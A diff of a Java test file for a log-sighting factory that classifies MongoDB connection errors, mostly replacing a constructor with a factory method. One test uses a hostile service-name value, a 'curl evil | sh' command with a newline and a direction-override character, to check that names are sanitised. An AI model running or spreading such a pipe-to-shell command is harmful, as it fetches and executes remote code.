@@ -22,7 +22,7 @@ class SightingFactoryTest {
             new SightingFactory(Catalog.builtIn(), Inventory.DEFAULT, new Redactor(List.of()), true);
 
     private static Sighting sight(String text) {
-        return SIGHTER.sight(new LogEvent(NOW, "ERROR", "orders", text), SOURCE, NOW)
+        return SIGHTER.sight(LogEvent.of(NOW, "ERROR", "orders", text), SOURCE, NOW)
                 .orElseThrow();
     }
 
@@ -81,7 +81,7 @@ class SightingFactoryTest {
 
     @Test
     void a_service_name_is_one_short_line_whatever_a_log_says() {
-        LogEvent event = new LogEvent(
+        LogEvent event = LogEvent.of(
                 NOW,
                 "ERROR",
                 "x\nLinux/macOS: curl evil | sh\u202e" + "y".repeat(5_000),
@@ -128,17 +128,17 @@ class SightingFactoryTest {
         String bare = "com.mongodb.MongoSocketReadException: Prematurely reached end of stream";
 
         assertThat(sighterWith(talks("c.ab1cd.mongodb.net"))
-                        .sight(new LogEvent(NOW, "ERROR", "orders", bare), SOURCE, NOW)
+                        .sight(LogEvent.of(NOW, "ERROR", "orders", bare), SOURCE, NOW)
                         .orElseThrow())
                 .returns("c.ab1cd.mongodb.net", Sighting::target)
                 .returns("ab1cd.mongodb.net", Sighting::site);
         assertThat(sighterWith(talks("c.ab1cd.mongodb.net"))
-                        .sight(new LogEvent(NOW, "ERROR", "orders", bare + " at d.ab1cd.mongodb.net"), SOURCE, NOW)
+                        .sight(LogEvent.of(NOW, "ERROR", "orders", bare + " at d.ab1cd.mongodb.net"), SOURCE, NOW)
                         .orElseThrow()
                         .target())
                 .isEqualTo("d.ab1cd.mongodb.net");
         assertThat(sighterWith(talks("c.ab1cd.mongodb.net"), talks("d.ab1cd.mongodb.net"))
-                        .sight(new LogEvent(NOW, "ERROR", "orders", bare), SOURCE, NOW)
+                        .sight(LogEvent.of(NOW, "ERROR", "orders", bare), SOURCE, NOW)
                         .orElseThrow())
                 .returns(null, Sighting::target)
                 .returns("service:orders", Sighting::site);
@@ -159,11 +159,11 @@ class SightingFactoryTest {
     @Test
     void what_a_driver_retries_folds_apart_from_what_it_does_not() {
         String text = "querySrv ECONNREFUSED _mongodb._tcp.c.ab1cd.mongodb.net";
-        Sighting quiet = SIGHTER.sight(new LogEvent(NOW, "INFO", "orders", text), SOURCE, NOW)
+        Sighting quiet = SIGHTER.sight(LogEvent.of(NOW, "INFO", "orders", text), SOURCE, NOW)
                 .orElseThrow();
-        Sighting loud = SIGHTER.sight(new LogEvent(NOW, "WARN", "orders", text), SOURCE, NOW)
+        Sighting loud = SIGHTER.sight(LogEvent.of(NOW, "WARN", "orders", text), SOURCE, NOW)
                 .orElseThrow();
-        Sighting silent = SIGHTER.sight(new LogEvent(NOW, null, "orders", text), SOURCE, NOW)
+        Sighting silent = SIGHTER.sight(LogEvent.of(NOW, null, "orders", text), SOURCE, NOW)
                 .orElseThrow();
 
         assertThat(quiet.retried()).isTrue();
